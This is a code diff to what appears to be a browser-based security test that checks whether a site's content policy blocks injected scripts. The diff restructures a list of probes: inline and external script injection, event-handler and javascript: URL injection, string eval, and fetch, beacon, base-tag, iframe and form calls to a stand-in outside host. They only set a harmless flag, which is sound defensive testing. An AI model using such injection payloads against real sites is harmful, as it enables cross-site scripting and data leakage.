@@ -172,45 +172,18 @@ async function hangTricks({ site, mara }: Target): Promise<string> {
 }
 
 /** What an injected script would try. */
-const deeds: readonly [string, string][] = [
-  [
-    'a script written into the page',
-    `const s = document.createElement('script'); s.text = 'window.wasIn = 1'; document.body.append(s)`,
-  ],
-  [
-    'a script of another site',
-    `await new Promise((done) => { const s = document.createElement('script'); s.src = 'http://elsewhere.example/x.js'; s.onerror = done; s.onload = () => { window.wasIn = 1; done() }; document.body.append(s) })`,
-  ],
-  [
-    'a script in an attribute',
-    `document.body.insertAdjacentHTML('beforeend', '<b id="deed" onclick="window.wasIn=1">x</b>'); document.getElementById('deed').click()`,
-  ],
-  [
-    'a script in an address',
-    `const a = document.createElement('a'); a.href = 'javascript:window.wasIn=1'; document.body.append(a); a.click(); await new Promise((done) => setTimeout(done, 50))`,
-  ],
-  [
-    'words that become code',
-    `try { setTimeout('window.wasIn = 1', 0) } catch {} await new Promise((done) => setTimeout(done, 50))`,
-  ],
-  ['a letter home', `try { await fetch('http://elsewhere.example/'); window.wasIn = 1 } catch {}`],
-  [
-    'a beacon',
-    `if (await new Promise((done) => { const i = new Image(); i.onload = () => done(true); i.onerror = () => done(false); i.src = 'http://elsewhere.example/pixel.gif' })) window.wasIn = 1`,
-  ],
-  [
-    'another base',
-    `const b = document.createElement('base'); b.href = 'http://elsewhere.example/'; document.head.append(b); if (new URL(document.baseURI).host !== location.host) window.wasIn = 1; b.remove()`,
-  ],
-  [
-    'a frame around another site',
-    `await new Promise((done) => { const f = document.createElement('iframe'); f.src = 'http://elsewhere.example/'; f.onload = done; f.onerror = done; document.body.append(f); setTimeout(done, 300) })`,
-  ],
-  [
-    'a form to another site',
-    `const f = document.createElement('form'); f.action = 'http://elsewhere.example/'; f.method = 'post'; document.body.append(f); f.submit(); await new Promise((done) => setTimeout(done, 100))`,
-  ],
-]
+const deeds: Readonly<Record<string, string>> = {
+  'a script written into the page': `const s = document.createElement('script'); s.text = 'window.wasIn = 1'; document.body.append(s)`,
+  'a script of another site': `await new Promise((done) => { const s = document.createElement('script'); s.src = 'http://elsewhere.example/x.js'; s.onerror = done; s.onload = () => { window.wasIn = 1; done() }; document.body.append(s) })`,
+  'a script in an attribute': `document.body.insertAdjacentHTML('beforeend', '<b id="deed" onclick="window.wasIn=1">x</b>'); document.getElementById('deed').click()`,
+  'a script in an address': `const a = document.createElement('a'); a.href = 'javascript:window.wasIn=1'; document.body.append(a); a.click(); await new Promise((done) => setTimeout(done, 50))`,
+  'words that become code': `try { setTimeout('window.wasIn = 1', 0) } catch {} await new Promise((done) => setTimeout(done, 50))`,
+  'a letter home': `try { await fetch('http://elsewhere.example/'); window.wasIn = 1 } catch {}`,
+  'a beacon': `if (await new Promise((done) => { const i = new Image(); i.onload = () => done(true); i.onerror = () => done(false); i.src = 'http://elsewhere.example/pixel.gif' })) window.wasIn = 1`,
+  'another base': `const b = document.createElement('base'); b.href = 'http://elsewhere.example/'; document.head.append(b); if (new URL(document.baseURI).host !== location.host) window.wasIn = 1; b.remove()`,
+  'a frame around another site': `await new Promise((done) => { const f = document.createElement('iframe'); f.src = 'http://elsewhere.example/'; f.onload = done; f.onerror = done; document.body.append(f); setTimeout(done, 300) })`,
+  'a form to another site': `const f = document.createElement('form'); f.action = 'http://elsewhere.example/'; f.method = 'post'; document.body.append(f); f.submit(); await new Promise((done) => setTimeout(done, 100))`,
+}
 
 /** Opens a page as a member and tries what the policy forbids. */
 async function visit(page: Page, site: string, path: string): Promise<[string, string | null][]> {
@@ -247,7 +220,7 @@ async function visit(page: Page, site: string, path: string): Promise<[string, s
     ['scripts that came with words', (await page.evaluate('window.wasIn')) === undefined ? null : 'have run'],
     ['where one has come to', page.url().startsWith(`${site}/`) ? null : page.url()],
   ]
-  for (const [name, deed] of deeds) {
+  for (const [name, deed] of Object.entries(deeds)) {
     abroad.length = 0
     await page.evaluate('delete window.wasIn')
     await page.evaluate(`(async () => { ${deed} })()`).catch(() => undefined)
